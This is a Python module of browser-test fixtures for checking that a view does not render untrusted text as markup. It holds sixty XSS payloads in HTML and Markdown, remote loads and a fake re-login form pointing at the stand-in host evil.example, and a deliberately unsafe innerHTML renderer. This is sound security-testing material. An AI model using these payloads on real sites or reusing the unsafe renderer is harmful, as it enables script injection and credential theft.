"""Sixty texts that run or load something, or make elements, wherever text is taken for markup; and how to see that."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.async_api import Locator, Page

__all__ = ["HOSTILE", "NAIVE", "NUMBERS", "WATCH", "effects", "number_in", "opened_by_links"]

# § is the number of the text: what it runs and loads has it.
_TEXTS = (
    # elements that run something
    "<img src=x onerror=window.ran=§>",
    "<svg onload=window.ran=§><script>window.ran=§</script></svg>",
    "</script><script>window.ran=§</script><!--",
    '<iframe srcdoc="<script>parent.ran=§</script>"></iframe>',
    '<iframe src="javascript:parent.ran=§"></iframe>',
    "<details open ontoggle=window.ran=§>more</details>",
    "<video><source onerror=window.ran=§></video>",
    "<audio src=x onerror=window.ran=§></audio>",
    "<input autofocus onfocus=window.ran=§>",
    "<textarea autofocus onfocus=window.ran=§></textarea>",
    "<marquee onstart=window.ran=§>news</marquee>",
    "<button onclick=window.ran=§>Approve</button>",
    "<p onmouseover=window.ran=§>over</p>",
    "<div style=animation:x onanimationstart=window.ran=§>moves</div>",
    "<svg><animate onbegin=window.ran=§ attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:window.ran=§"><text y=20>t</text></a></svg>',
    '<a href="javascript:window.ran=§" onclick=window.ran=§>here</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=§>",
    '<noscript><p title="</noscript><img src=x onerror=window.ran=§>">',
    "<template><img src=x onerror=window.ran=§></template>",
    "<xmp><img src=x onerror=window.ran=§></xmp>",
    # elements that load something, send something, or change the page
    "<script src=http://evil.example/§.js></script>",
    "<style>/* evil.example/§ */ * { display: none }</style>",
    "<link rel=stylesheet href=http://evil.example/§.css>",
    "<object data=http://evil.example/§></object>",
    "<embed src=http://evil.example/§>",
    '<form action=http://evil.example/§><input name=key><input type=submit value="Log in again"></form>',
    '<meta http-equiv=refresh content="3600;url=http://evil.example/§">',
    "<base href=http://evil.example/§/>",
    '<a href="http://evil.example/§" ping="http://evil.example/§">here</a>',
    '<img srcset="http://evil.example/§ 1x">',
    "<picture><source srcset=http://evil.example/§><img></picture>",
    "<video poster=http://evil.example/§></video>",
    "<svg><image href=http://evil.example/§ /></svg>",
    "<svg><use href=http://evil.example/§#x /></svg>",
    '<div style="background: url(http://evil.example/§)">behind</div>',
    "<table background=http://evil.example/§><tr><td>cell</table>",
    '<agor-session src="http://evil.example/§"></agor-session>',
    # characters that are written in another way
    "&lt;img src=x onerror=window.ran=§&gt;",
    "&#60;img src=x onerror=window.ran=§&#62;",
    "&#x3c;svg/onload=window.ran=§&#x3E;",
    "\u202e<img src=x onerror=window.ran=§>\u202c",
    # Markdown
    "[a](javascript:window.ran=§)",
    "[b](JaVaScRiPt:window.ran=§)",
    "[c](java\tscript:window.ran=§)",
    "[d]( javascript:window.ran=§)",
    "[e](data:text/html,<script>window.ran=§</script>)",
    "![f](data:image/svg+xml,<svg/onload=window.ran=§>)",
    "![g](http://evil.example/§.png)",
    "<http://evil.example/§>",
    "[i](//evil.example/§)",
    "[j](vbscript:window.ran=§) [k](blob:http://evil.example/§)",
    'https://evil.example/§"onmouseover="window.ran=§',
    "| <img src=x onerror=window.ran=§> | b |\n|--|--|\n| [m](javascript:window.ran=§) | <b>n</b> |",
    "# <img src=x onerror=window.ran=§>\n> <svg onload=window.ran=§>\n\n- <style>*{display:none}</style>",
    "```html\n<img src=x onerror=window.ran=§>\n```",
    '```"><img/src=x/onerror=window.ran=§>\nx = 1\n```',
    "~~<img src=x onerror=window.ran=§>~~ **<svg onload=window.ran=§>**",
    '[<img src=x onerror=window.ran=§>](http://evil.example/§ "<svg onload=window.ran=§>")',
    "- [ ] <input type=checkbox autofocus onfocus=window.ran=§>\n  1. `<img src=x onerror=window.ran=§>`",
)
NUMBERS = range(1, len(_TEXTS) + 1)
HOSTILE = tuple(text.replace("§", str(number)) for number, text in zip(NUMBERS, _TEXTS, strict=True))


WATCH = """() => {
  window.__ran = [];
  Object.defineProperty(window, "ran", { set: (value) => window.__ran.push(value), get: () => window.__ran[0] });
  window.__opened = [];
  window.open = (address) => { window.__opened.push(String(address)); };
}"""
"""For a page before it shows texts: it notes what they run and what links open."""

_MADE = """(root) => {
  const names = ("a agor-session animate audio b base body dialog embed frame iframe image img link marquee math " +
    "meta noscript object picture script source style svg template use video xmp").split(" ");
  const acts = /^(on.*|action|background|data|formaction|href|ping|poster|src|srcdoc|srcset|xlink:href)$/;
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    const attributes = [...element.attributes].filter(({ name, value }) =>
      acts.test(name) || (name === "style" && /url|animation/.test(value)));
    if (!names.includes(element.localName) && !attributes.length) continue;
    let around = element;
    while (around !== root && !/ran=[0-9]|evil[.]example.[0-9]/.test(around.outerHTML)) around = around.parentElement;
    found.push([[element.localName, ...attributes.map(({ name }) => name)].join(" "), around.outerHTML]);
  }
  return found;
}"""

NAIVE = """([texts]) => {
  const root = document.body.appendChild(document.createElement("main"));
  for (const text of texts) {
    const markup = text
      .replace(/!\\[(.*?)\\]\\(\\s*(.*?)\\)/g, '<img alt="$1" src="$2">')
      .replace(/\\[(.*?)\\]\\(\\s*(.*?)\\)/g, '<a href="$2">$1</a>')
      .replace(/<(https?:.*?)>/g, '<a href="$1">$1</a>')
      .replace(/^https?:.*/g, '<a href="$&">$&</a>');
    const box = root.appendChild(document.createElement("div"));
    box.innerHTML = markup;
    const decoded = root.appendChild(document.createElement("div"));
    decoded.innerHTML = box.textContent;
  }
}"""
"""Shows texts as markup, in the way that a view must not."""

_NUMBER = re.compile(r"ran=(\d+)|evil\.example/(\d+)")


def number_in(text: str) -> int:
    """The number of the text that this comes from; 0 if it has none."""
    found = _NUMBER.search(text)
    return int(found[1] or found[2]) if found else 0


async def effects(page: Page, root: Locator, asked: Iterable[str]) -> dict[int, list[str]]:
    """What texts did in a page that began with `WATCH`, by their numbers: ran, loaded or made; 0 are those without.

    `asked`: the addresses that the page requested.
    """
    found: dict[int, list[str]] = {}
    for number in await page.evaluate("() => window.__ran"):
        found.setdefault(int(number), []).append("ran")
    for address in asked:
        found.setdefault(number_in(address), []).append(f"loaded {address}")
    for what, markup in await root.evaluate(_MADE):
        found.setdefault(number_in(markup), []).append(f"made {what}: {markup[:200]}")
    return found


async def opened_by_links(page: Page, root: Locator) -> list[str]:
    """Click every link and return the addresses that it opens."""
    await root.locator(".ag-link").evaluate_all("(links) => links.forEach((link) => link.click())")
    return [str(address) for address in await page.evaluate("() => window.__opened.splice(0)")]
